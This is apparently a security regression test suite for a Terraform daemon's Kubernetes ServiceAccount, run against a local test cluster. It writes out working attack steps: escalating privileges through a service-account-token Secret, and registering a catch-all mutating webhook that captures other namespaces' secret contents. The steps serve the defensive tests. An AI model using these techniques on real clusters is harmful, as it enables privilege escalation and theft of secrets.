import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';
import { after, before, describe, it, type TestContext } from 'node:test';
import { aFolder } from '../support/builders/a-folder.ts';
import type { Json } from '../support/builders/a-job.ts';
import { aLeaf } from '../support/builders/a-leaf.ts';
import { type Cluster, NAMESPACE, REGISTRATION, SECRET, startCluster } from '../support/cluster/cluster.ts';
import { opensslAuthority } from '../support/cluster/openssl.ts';
import { type RawApi, rawApi } from '../support/cluster/raw-api.ts';
import { kubeconfigWith, tokenOf } from '../support/cluster/service-account-token.ts';
import { eventually } from '../support/eventually.ts';

const ACCOUNT = 'terraform-daemon';
const POWERFUL = 'terraform-controller';
const SECRET_PATH = `/api/v1/namespaces/${NAMESPACE}/secrets/${SECRET}`;
const BINDINGS = '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings';
const POLICY = 'terraform-daemon-secret-type';

/**
 * A Secret that Kubernetes fills with a token of the named ServiceAccount: a known privilege escalation for a user who
 * can create Secrets.
 */
const tokenSecret = {
  apiVersion: 'v1',
  kind: 'Secret',
  metadata: { name: SECRET, annotations: { 'kubernetes.io/service-account.name': POWERFUL } },
  type: 'kubernetes.io/service-account-token',
};

describe('an attacker with the token of the ServiceAccount of the daemon', () => {
  let cluster: Cluster;
  let admin: RawApi;
  before(async () => {
    cluster = await startCluster({ controllerManager: true });
    admin = await rawApi(cluster.kubeconfig);
    await cluster.core.createNamespacedServiceAccount({
      namespace: NAMESPACE,
      body: { metadata: { name: POWERFUL } },
    });
  });
  after(async () => {
    admin?.close();
    await cluster?.stop();
  });

  async function apiWith(t: TestContext, token: string): Promise<RawApi> {
    const api = await rawApi(await kubeconfigWith(token, cluster, await aFolder(t)));
    t.after(() => api.close());
    return api;
  }
  const thief = async (t: TestContext) => apiWith(t, await tokenOf(cluster, ACCOUNT));
  const applyTokenSecret = (api: RawApi) => api.call('APPLY', `${SECRET_PATH}?fieldManager=thief`, tokenSecret);

  it('a stolen token cannot get the token of another account through the Secret of the daemon', async (t) => {
    const api = await thief(t);
    await eventually(async () => {
      const { status, body } = await applyTokenSecret(api);
      assert.equal(status, 422, body.message);
      assert.match(body.message, /may only write Secrets of type kubernetes\.io\/tls/);
    });
    // An early attempt can write the Secret before the API server enforces the ValidatingAdmissionPolicy. This Secret
    // must not affect the other tests.
    await cluster.forgetDaemon();
  });

  it('without the ValidatingAdmissionPolicy terraform-daemon-secret-type, a stolen token of the daemon could get the token of another ServiceAccount', async (t) => {
    const api = await thief(t);
    const { body: binding } = await admin.call('GET', `${BINDINGS}/${POLICY}`);
    await admin.call('DELETE', `${BINDINGS}/${POLICY}`);
    await eventually(async () => {
      const { status, body } = await applyTokenSecret(api);
      assert.equal(status, 201, body.message);
    });
    await eventually(async () => {
      const { body } = await api.call('GET', SECRET_PATH);
      const stolen = await apiWith(t, Buffer.from(body.data.token, 'base64').toString());
      const review = await stolen.call('POST', '/apis/authentication.k8s.io/v1/selfsubjectreviews', {});
      assert.equal(review.body.status?.userInfo?.username, `system:serviceaccount:${NAMESPACE}:${POWERFUL}`);
    });
    await cluster.forgetDaemon();
    const { name, labels } = binding.metadata;
    await admin.call('POST', BINDINGS, { ...binding, metadata: { name, labels } });
  });

  it('a stolen token can intercept all writes of the cluster through the webhook configuration', async (t) => {
    const ca = await opensslAuthority('ec');
    const { certificate: cert, privateKey: key } = await aLeaf(ca, { name: 'DNS:localhost' });
    const seen: Json[] = [];
    const server = createServer({ cert, key }, async (request, response) => {
      const { request: asked } = JSON.parse(await text(request));
      seen.push(asked.object);
      const review = { apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview' };
      response.setHeader('Content-Type', 'application/json');
      response.end(JSON.stringify({ ...review, response: { uid: asked.uid, allowed: true } }));
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    t.after(() => server.close());

    const { port } = server.address() as AddressInfo;
    const webhook = {
      name: 'thief.example.com',
      clientConfig: {
        url: `https://localhost:${port}/`,
        caBundle: Buffer.from(ca.certificate).toString('base64'),
      },
      rules: [{ apiGroups: ['*'], apiVersions: ['*'], resources: ['*'], operations: ['*'] }],
      // The API server can call the webhook for a moment after the end of this test.
      failurePolicy: 'Ignore',
      sideEffects: 'None',
      admissionReviewVersions: ['v1'],
    };
    const metadata = { name: REGISTRATION };
    const registration = { apiVersion: 'admissionregistration.k8s.io/v1', kind: 'MutatingWebhookConfiguration' };
    const path = `/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/${REGISTRATION}`;
    const body = { ...registration, metadata, webhooks: [webhook] };
    const applied = await (await thief(t)).call('APPLY', `${path}?fieldManager=thief`, body);
    assert.equal(applied.status, 201, JSON.stringify(applied.body));
    t.after(() => cluster.forgetDaemon());

    await eventually(async () => {
      const name = `of-others-${Date.now()}`;
      const stringData = { password: 'in plain text' };
      await cluster.core.createNamespacedSecret({ namespace: 'default', body: { metadata: { name }, stringData } });
      const [found] = seen.filter((object) => object?.metadata?.name === name);
      assert.equal(Buffer.from(found?.data?.password ?? '', 'base64').toString(), 'in plain text');
    });
  });

  it('a stolen token is valid until its Pod is deleted, at most for an hour', async (t) => {
    const pod = 'terraform-daemon-0';
    const spec = { containers: [{ name: 'a', image: 'a' }], serviceAccountName: ACCOUNT };
    await cluster.core.createNamespacedPod({ namespace: NAMESPACE, body: { metadata: { name: pod }, spec } });
    const api = await apiWith(t, await tokenOf(cluster, ACCOUNT, pod));
    const jobs = '/apis/batch/v1/jobs';
    assert.equal((await api.call('GET', jobs)).status, 200);

    await cluster.core.deleteNamespacedPod({ namespace: NAMESPACE, name: pod, gracePeriodSeconds: 0 });
    // The API server caches a successful token check for ten seconds.
    await eventually(async () => assert.equal((await api.call('GET', jobs)).status, 401), { withinMs: 60_000 });
  });
});
